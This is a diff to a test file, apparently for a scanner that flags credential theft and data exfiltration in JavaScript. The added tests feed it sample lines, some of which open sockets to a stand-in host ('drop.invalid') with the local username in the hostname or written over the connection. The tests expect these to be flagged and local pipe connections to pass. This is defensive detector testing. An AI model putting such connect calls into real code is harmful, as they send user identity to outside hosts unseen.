@@ -244,3 +244,18 @@ it('tools that hand out credentials are asked for them', () => {
     expect(found(`require('child_process').execSync('${line}')`, 'credential-file')).toEqual([line]);
   expect(found(`require('child_process').execSync('git config --get remote.origin.url')`, 'credential-file')).toEqual([]);
 });
+
+describe('a pipe named after the user', () => {
+  const named = "const net = require('node:net'), os = require('node:os'); const name = os.userInfo().username;";
+  it('is a place on this machine, whether named in place or before', () => {
+    expect(found(`${named} net.createConnection(os.tmpdir() + '/tool-' + name + '.pipe', () => {});`, 'exfiltration')).toEqual([]);
+    expect(found(`${named} const at = '/tmp/' + name; net.connect(at).on('error', () => {});`, 'exfiltration')).toEqual([]);
+  });
+
+  it('is not a host named after the user, nor what is written to one', () => {
+    expect(found(`${named} net.connect(53, name + '.drop.invalid');`, 'exfiltration')).toHaveLength(1);
+    expect(found(`${named} net.connect({ port: 53, host: name + '.drop.invalid' });`, 'exfiltration')).toHaveLength(1);
+    expect(found(`${named} const o = { host: name + '.drop.invalid', port: 9 }; net.connect(o, () => {});`, 'exfiltration')).toHaveLength(1);
+    expect(found(`${named} const s = net.connect(9, 'drop.invalid'); s.write(name);`, 'exfiltration')).toHaveLength(1);
+  });
+});
